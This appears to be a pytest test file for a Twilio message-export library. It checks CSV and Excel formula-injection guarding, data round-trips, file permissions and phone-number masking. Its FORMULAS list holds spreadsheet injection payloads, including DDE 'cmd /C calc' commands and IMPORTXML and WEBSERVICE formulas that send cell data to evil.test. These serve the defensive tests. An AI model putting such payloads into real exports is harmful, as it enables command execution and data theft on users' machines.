"""Files that leave the notebook: no text in them runs, and reading them back changes nothing."""

from __future__ import annotations

import os
import random
import re
import string
import sys
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from twilio_widgets import frames
from twilio_widgets.core.formulas import guarded, unguarded
from twilio_widgets.errors import ConfigurationError
from twilio_widgets.frames import MessageFrame, message_frame
from twilio_widgets.frames.decode import MessageRecord

DATE = "Thu, 24 Aug 2023 05:01:45 +0000"

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"Invoice")',
    '=IMPORTXML(CONCAT("http://evil.test/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=WEBSERVICE("http://evil.test/"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1;x",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x|=1+1",
    "x\n=1+1",
    "x\r=1+1",
    "x\r\n=1+1",
    'x";=1+1',
    'x","=1+1',
    "x';'=1+1",
    'x"\n"=1+1',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u202e=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "‘=1+1",
    "“=1+1",
    "＂=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫x",
    "−1+1",
    "x ; = 1+1",
    "x, \" =1+1",
    "+447911123123=1",
    "+447911123123;=1+1",
    "x,+447911123123",
    "+44 7911 123123",
    "+0123456789",
    "+4479111231231234567",
    "+１２３４５６７８９",
    "++447911123123",
    "+447911123123\n",
    "-447911123123",
    "@handle",
    "=",
    "-",
    "- ok",
    "+",
    "@",
    "\tplain",
    "\rplain",
    "\nplain",
]  # fmt: skip
assert len(set(FORMULAS)) == len(FORMULAS) >= 60

LEFT_ALONE = [
    "+447911123123", "+15005550006", "whatsapp:+15005550006", "Hi", "a=b", "1-2", "x@y.test",
    "50% - 3", "it's", "a; b", "a, b", "NA", "null", "NaN", "None", "TRUE", "007", "1e5", "٣",
]  # fmt: skip

ODD = "=+-@＝＋－＠'\"`,;|\t\r\n \\_x0D\x00\x0b\x1b\x85\u2028\ufeff\u200b\uffff\U0010ffff😀é$<&>"


def begins_a_formula(cell: str) -> bool:
    """Judge as a spreadsheet that drops blanks and quotes does; written apart from our rule."""
    at = 0
    while at < len(cell) and (
        cell[at] in '"‘’“”«»＂`' or not cell[at].isprintable() or cell[at].isspace()
    ):
        at += 1
    return cell[at : at + 1] in set("=+-@＝＋－＠")


def random_texts(count: int) -> list[str]:
    chance = random.Random(20260115)
    letters = ODD * 3 + string.ascii_letters + string.digits
    texts = ["".join(chance.choices(letters, k=chance.randrange(12))) for _ in range(count - 2_000)]
    texts += [
        "".join(chance.choices("=+-'\"\r\n\t, ", k=chance.randrange(6))) for _ in range(1_000)
    ]
    texts += [
        "".join(chance.choices("_x0D05F\r\x00", k=chance.randrange(16))) for _ in range(1_000)
    ]
    return texts


def frame_of_bodies(texts: list[str | None], **attrs: object) -> MessageFrame:
    rows = [
        MessageRecord(
            f"SM{number:032x}",
            date_sent=DATE if number % 3 else None,
            body=text,
            from_=text,
            error_message=text,
            status="sent",
            direction="inbound" if number % 2 else None,
            num_segments="1",
            price="-0.00750" if number % 2 else None,
            error_code=30007 if number % 5 else None,
        )
        for number, text in enumerate(texts)
    ]
    return message_frame(rows, attrs=attrs)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_reader_with_any_separator_finds_a_formula(text, tmp_path):
    """Also not one that splits inside quotes, as a spreadsheet with another separator does."""
    path = tmp_path / "log.csv"
    frame_of_bodies([text])[["sid", "body"]].to_csv(path)

    raw = path.read_bytes().decode()
    cells = re.split(r"[,;|\t\r\n]", raw)
    assert [cell for cell in cells if begins_a_formula(cell)] == []
    assert guarded(text)[:1] not in set("=+-@\t\r")
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_text_that_is_not_a_formula_is_unchanged(text):
    assert guarded(text) == text


@given(st.text(st.sampled_from(ODD)) | st.text())
@example("'")
@example("")
def test_every_guarded_text_is_restored(text):
    assert unguarded(guarded(text)) == text


def test_no_two_texts_have_the_same_guarded_form():
    texts = sorted(set(random_texts(20_000)))

    assert len({guarded(text) for text in texts}) == len(texts)


@pytest.mark.parametrize(
    "text",
    ["\n" * 1_000_000, ",'" * 500_000, " " * 1_000_000 + "x"],
    ids=["line breaks", "quotes", "spaces"],
)
def test_a_text_of_any_length_is_guarded_in_linear_time(text):
    """A run of blanks without a match must not be tried from each of its positions."""
    assert unguarded(guarded(text)) == text


def test_ten_thousand_random_texts_survive_csv(tmp_path):
    frame = frame_of_bodies([*random_texts(9_998), None, ""])

    frame.to_csv(tmp_path / "log.csv")

    pd.testing.assert_frame_equal(frames.read_csv(tmp_path / "log.csv"), frame)


def test_ten_thousand_random_texts_survive_excel(tmp_path):
    frame = frame_of_bodies([*random_texts(9_998), None, ""])[["sid", "date_sent", "body", "price"]]

    frame.to_excel(tmp_path / "log.xlsx")

    pd.testing.assert_frame_equal(frames.read_excel(tmp_path / "log.xlsx"), frame)


def test_excel_files_hold_texts_and_no_formula_and_no_link(tmp_path):
    texts = [*FORMULAS, *LEFT_ALONE, "http://evil.test", "mailto:x@y.test", "#N/A", "#REF!"]
    frame = frame_of_bodies(texts, account="=1+1", note='=HYPERLINK("http://evil.test")')
    frame["=1+1"] = "=2+2"
    frame["mine"] = [["=3+3"]] * len(frame)
    frame.to_excel(tmp_path / "log.xlsx")

    book = openpyxl.load_workbook(tmp_path / "log.xlsx")

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    assert [cell for cell in cells if cell.hyperlink is not None] == []
    assert {cell.number_format for cell in cells if cell.data_type == "s"} == {"@"}
    assert book["messages"]["I2"].value == "=1+1"
    with zipfile.ZipFile(tmp_path / "log.xlsx") as parts:
        xml = b"".join(parts.read(name) for name in parts.namelist())
    assert b"<f>" not in xml
    assert b"<f " not in xml
    assert b"hyperlink" not in xml.lower().replace(b"hyperlink(", b"")


def test_a_frame_is_read_back_from_every_kind_of_file_with_its_types(tmp_path):
    frame = frame_of_bodies(["+447911123123", "", None, "=1"], complete=True, account="AC11…1111")
    frame.to_csv(tmp_path / "log.csv")
    frame.to_excel(tmp_path / "log.xlsx")
    frame.to_parquet(tmp_path / "log.parquet")

    from_csv = frames.read_csv(tmp_path / "log.csv")
    from_excel = frames.read_excel(tmp_path / "log.xlsx")
    from_parquet = frames.read_parquet(tmp_path / "log.parquet")

    for again in (from_csv, from_excel, from_parquet):
        assert type(again) is MessageFrame
        pd.testing.assert_frame_equal(again, frame)
    assert from_csv.attrs == {}
    assert from_excel.attrs == from_parquet.attrs == frame.attrs


def test_part_of_a_parquet_file_does_not_claim_to_be_everything(tmp_path):
    frame_of_bodies(["a", "b"], complete=True).to_parquet(tmp_path / "log.parquet")

    part = frames.read_parquet(tmp_path / "log.parquet", filters=[("body", "==", "a")])

    assert (len(part), part.attrs["complete"]) == (1, False)


def test_empty_frames_are_read_back_with_their_schema(tmp_path):
    frame = message_frame([], attrs={"complete": True})
    frame.to_csv(tmp_path / "log.csv")
    frame.to_excel(tmp_path / "log.xlsx")

    for again in (
        frames.read_csv(tmp_path / "log.csv"),
        frames.read_excel(tmp_path / "log.xlsx"),
    ):
        assert list(again.dtypes) == list(frame.dtypes)
        assert len(again) == 0


def test_names_of_columns_and_rows_are_guarded_too():
    frame = MessageFrame({"=1": ["=2"], ("=3", "x;=4"): [5]}, index=pd.Index(["=6"], name="=7"))

    assert frame.to_csv() == '\'=7,\'=1,"(""\'=3"", ""x;\'=4"")"\r\n\'=6,\'=2,5\r\n'


@pytest.mark.parametrize(
    ("make", "text"),
    [
        (lambda f: f[["sid"]].tail(1), "sid\r\nSM1\r\n"),
        (lambda f: f[["sid"]].set_index("sid").assign(n=1), "sid,n\r\nSM0,1\r\nSM1,1\r\n"),
        (lambda f: f[["sid"]].set_index(pd.Index(["a", "=b"])), ",sid\r\na,SM0\r\n'=b,SM1\r\n"),
        (lambda f: f.groupby("status", observed=True)[["sid"]].count(), "status,sid\r\nsent,2\r\n"),
    ],
)
def test_the_index_is_written_when_it_means_something(make, text):
    frame = message_frame(
        [MessageRecord("SM0", status="sent"), MessageRecord("SM1", status="sent")], attrs={}
    )

    assert make(frame).to_csv() == text


def test_pandas_own_options_still_work(tmp_path):
    frame = message_frame([MessageRecord("SM1", body="=1;x")], attrs={})[["sid", "body"]]

    frame.to_csv(tmp_path / "log.csv", sep=";", encoding="utf-8-sig")

    again = frames.read_csv(tmp_path / "log.csv", sep=";")
    assert again.to_dict("list") == {"sid": ["SM1"], "body": ["=1;x"]}
    assert frame.to_csv(index=True, header=False) == "0,SM1,'=1;x\r\n"


def test_an_export_says_whether_it_is_everything(tmp_path):
    whole = frame_of_bodies(["a", "b"], complete=True)
    part = frame_of_bodies(["a", "b"], complete=False)
    path = tmp_path / "log.csv"

    assert repr(whole.to_csv(path)) == f"2 rows written to {path} (complete)"
    assert repr(whole.head(1).to_csv(path)) == f"1 rows written to {path} (not the complete log)"
    assert repr(part.to_excel(tmp_path / "log.xlsx")).endswith(
        "(not the complete log; 2 messages read, the log has more: limit=None reads all)"
    )
    whole.loc[2] = whole.loc[0]  # in place: pandas tells nobody
    assert whole.to_csv(path).complete is False


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "cannot be read as a CSV file"),
        (b"a,b\n1,2\n", "no column of a message frame"),
        (b"sid,price\nSM1,free\n", "'price'"),
        (b"sid,body\nSM1,\xff\n", "cannot be read as a CSV file"),
        (b'sid,body\nSM1,"open', "cannot be read as a CSV file"),
        (b"sid,body\nSM1,2,3,4\nSM1,2,3,4,5\n", "cannot be read as a CSV file"),
    ],
)
def test_a_file_that_cannot_be_read_says_why(content, message, tmp_path):
    (tmp_path / "log.csv").write_bytes(content)

    with pytest.raises(ConfigurationError, match=message):
        frames.read_csv(tmp_path / "log.csv")


@pytest.mark.parametrize("content", [b"", b"sid,body", b"PK\x03\x04"])
def test_a_workbook_that_cannot_be_read_says_so(content, tmp_path):
    (tmp_path / "log.xlsx").write_bytes(content)

    with pytest.raises(ConfigurationError, match="is not an Excel workbook"):
        frames.read_excel(tmp_path / "log.xlsx")


def test_a_workbook_of_another_program_is_read_as_far_as_possible(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["sid", "body", "own"])
    book.active.append(["SM1", None, 7, "more"])
    book.active.append(["SM2"])
    about = book.create_sheet("about")
    for row in (["complete", "no JSON"], ["rows"], [1, "[" * 100_000 + "]"], ["account", '"AC0…"']):
        about.append(row)
    book.save(tmp_path / "log.xlsx")

    frame = frames.read_excel(tmp_path / "log.xlsx")

    assert frame["sid"].tolist() == ["SM1", "SM2"]
    assert frame["own"].tolist() == [7, None]
    assert frame.attrs == {"account": "AC0…"}


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_only_the_owner_may_read_an_export(umask, tmp_path):
    before = os.umask(umask)
    try:
        for name, write in (("a.csv", MessageFrame.to_csv), ("a.xlsx", MessageFrame.to_excel)):
            write(frame_of_bodies(["x"]), tmp_path / name)
    finally:
        os.umask(before)

    assert {path.stat().st_mode & 0o777 for path in tmp_path.iterdir()} == {0o600}


def test_a_frame_that_does_not_fit_into_excel_is_refused(tmp_path):
    with pytest.raises(ConfigurationError, match="32,767 characters"):
        frame_of_bodies(["x" * 32_768]).to_excel(tmp_path / "log.xlsx")
    with pytest.raises(ConfigurationError, match="1,048,575 rows"):
        MessageFrame({"n": range(1_048_576)}).to_excel(tmp_path / "log.xlsx")
    assert list(tmp_path.iterdir()) == []
    assert openpyxl.worksheet._writer.ALL_TEMP_FILES == []
    frame_of_bodies(["x"]).to_excel(tmp_path / "log.xlsx")
    with pytest.raises(ConfigurationError, match="has no sheet 'calls'"):
        frames.read_excel(tmp_path / "log.xlsx", sheet_name="calls")


def test_without_openpyxl_the_way_out_is_named(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)

    with pytest.raises(ConfigurationError, match=r"twilio-widgets\[excel\]"):
        frame_of_bodies(["x"]).to_excel(tmp_path / "log.xlsx")


class TestMasking:
    """A masked frame can be shown to others."""

    @pytest.fixture
    def frame(self) -> MessageFrame:
        row = MessageRecord(
            "SM" + "0" * 32,
            account_sid="AC0f" + "1" * 26 + "9a41",
            date_sent=DATE,
            from_="whatsapp:+15005550006",
            to="+447911123123",
            body="Call +447911123123, code 4711",
            error_message="The number +447911123123 is not reachable",
            status="sent",
            direction="inbound",
            price="-0.00750",
            error_code=30003,
        )
        return message_frame([row], attrs={"complete": True, "filters": {"to": ["+447911123123"]}})

    def test_numbers_are_masked_wherever_they_stand(self, frame):
        frame["mine"] = [{"number": "+447911123123"}]
        frame["choice"] = pd.Categorical(["+447911123123"])
        frame.index = pd.Index(["+447911123123"], name="to +447911123123")
        frame["+447911123123"] = 1

        safe = frame.masked()

        for shown in (safe.to_csv(), safe._repr_html_(), str(safe.attrs), str(safe.to_dict())):
            assert "7911" not in shown
            assert "5005550006" not in shown
        assert "7911" in frame.to_csv()

    def test_everything_else_stays(self, frame):
        safe = frame.masked()

        assert type(safe) is MessageFrame
        assert list(safe.dtypes) == list(frame.dtypes)
        assert {name: values.tolist()[0] for name, values in safe.items()} == {
            "sid": "SM" + "0" * 32,
            "date_sent": datetime(2023, 8, 24, 5, 1, 45, tzinfo=UTC),
            "date_created": pd.NaT,
            "date_updated": pd.NaT,
            "direction": "inbound",
            "status": "sent",
            "from": "whatsapp:+1 5••• ••• 006",
            "to": "+44 7••• ••• 123",
            "body": "Call +44 7••• ••• 123, code 4711",
            "num_segments": pd.NA,
            "num_media": pd.NA,
            "price": Decimal("-0.007500"),
            "price_unit": pd.NA,
            "error_code": 30003,
            "error_message": "The number +44 7••• ••• 123 is not reachable",
            "messaging_service_sid": pd.NA,
            "account_sid": "AC0f…9a41",
        }
        assert safe.attrs == frame.attrs | {"filters": {"to": ["+44 7••• ••• 123"]}}
